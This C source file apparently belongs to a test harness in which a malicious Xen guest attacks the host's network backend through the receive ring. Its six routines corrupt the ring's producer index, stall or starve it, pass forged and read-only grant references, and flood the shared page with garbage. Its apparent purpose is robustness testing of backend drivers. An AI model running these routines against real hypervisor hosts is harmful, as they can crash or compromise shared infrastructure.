/* SPDX-License-Identifier: BSD-3-Clause */
/* Attacks through the receive ring. The host has to send something for most of them to bite. */
#include "hostile.h"

static void push(struct victim *v)
{
    wmb();
    v->rings.rx.sring->req_prod = v->rings.rx.req_prod_pvt;
    evtchn_notify(v->dev.port);
}

static void rxjump(struct victim *v)
{
    connect(v);
    v->rings.rx.req_prod_pvt += 1000;
    push(v);
    nap();
}

static void rxback(struct victim *v)
{
    connect(v);
    v->rings.rx.req_prod_pvt -= 100;
    push(v);
    nap();
}

/* Never takes a frame, so never gives a buffer back. */
static void rxstall(struct victim *v)
{
    connect(v);
    push(v);
}

/* No buffers at all. */
static void rxempty(struct victim *v)
{
    connect(v);
    v->rings.rx.req_prod_pvt = 0;
    push(v);
}

static void rxgrefs(struct victim *v)
{
    connect(v);
    for (unsigned i = 0; i < 100; i++) {
        struct netif_rx_request *r = RING_GET_REQUEST(&v->rings.rx, v->rings.rx.req_prod_pvt++);

        r->id = (uint16_t)noise();
        r->gref = i % 2 ? noise() : (uint32_t)v->rings.tx_buffers[0].ref; /* read-only */
    }
    for (unsigned i = 0; i < VIF_RX_BUFFERS; i++)
        grant_end(v->rings.rx_buffers[i].ref);
    push(v);
}

static void rxrsp(struct victim *v)
{
    connect(v);
    for (unsigned i = 0; i < 300; i++) {
        scribble(v->rings.rx.sring, PAGE_SIZE);
        evtchn_notify(v->dev.port);
        if (i % 50 == 49)
            nap();
    }
}

const struct attack rx_attacks[] = {
    {"rxjump", rxjump},   {"rxback", rxback}, {"rxstall", rxstall}, {"rxempty", rxempty},
    {"rxgrefs", rxgrefs}, {"rxrsp", rxrsp},   {NULL, NULL},
};
